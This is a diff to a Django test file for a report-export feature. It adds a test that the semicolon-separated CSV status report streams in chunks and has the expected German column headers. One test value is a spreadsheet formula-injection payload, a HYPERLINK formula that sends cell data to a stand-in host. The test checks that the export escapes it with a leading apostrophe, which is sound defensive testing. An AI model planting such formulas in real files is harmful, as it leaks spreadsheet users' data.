@@ -14,6 +14,7 @@ from pypdf import PdfReader
 
 from measures.models import ActionField, Measure, Status
 from tests.builders import make_measure
+from tests.responses import body
 
 pytestmark = pytest.mark.django_db
 
@@ -37,13 +38,49 @@ def today():
 def test_the_report_csv_is_separated_by_semicolons_with_a_byte_order_mark(client, steering):
     make_measure(title="Sprachcafé; montags und donnerstags", status=Status.PLANNED)
     response = download(client, steering, format="csv")
-    assert response.content.startswith("\ufeff".encode())
-    text = response.content.decode("utf-8-sig")
+    content = body(response)
+    assert content.startswith("\ufeff".encode())
+    text = content.decode("utf-8-sig")
     assert text.splitlines()[0].startswith("Handlungsfeld;Maßnahme;Status;Fortschritt in %;")
     rows = list(csv.reader(io.StringIO(text), delimiter=";"))
     assert {len(row) for row in rows} == {len(rows[0])}
     assert len(rows) - 1 == Measure.objects.count()
     assert any(row[1] == "Sprachcafé; montags und donnerstags" for row in rows)
+
+
+def test_the_report_csv_is_streamed_with_rows_read_in_chunks(client, steering, monkeypatch):
+    from django.http import StreamingHttpResponse
+
+    from measures import reports
+
+    monkeypatch.setattr(reports, "CSV_CHUNK_ROWS", 2)  # several chunks of the test data
+    make_measure(title='=HYPERLINK("https://example.org/?d="&A1;"Klick")', status=Status.IDEA)
+    response = download(client, steering, format="csv")
+    assert isinstance(response, StreamingHttpResponse)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    content = body(response)
+    assert content.startswith("\ufeff".encode()) and content.endswith(b"\r\n")
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[0] == [
+        "Handlungsfeld",
+        "Maßnahme",
+        "Status",
+        "Fortschritt in %",
+        "federführend",
+        "weitere Handlungsfelder",
+        "letzter Fortschritt am",
+        "letzter Fortschritt",
+        "nächster offener Schritt",
+        "Veröffentlichung",
+        "zuletzt geändert am",
+    ]
+    assert len(rows) - 1 == Measure.objects.count()
+    assert ['\'=HYPERLINK("https://example.org/?d="&A1;"Klick")'] == [
+        row[1] for row in rows if "HYPERLINK" in row[1]
+    ]
+    # the same order as the report's sections
+    titles = [row[1].removeprefix("'") for row in rows[1:]]
+    assert titles == [m.title for m in reports.build_status_report().measures]
 
 
 def test_the_open_data_csv_stays_comma_separated(client):
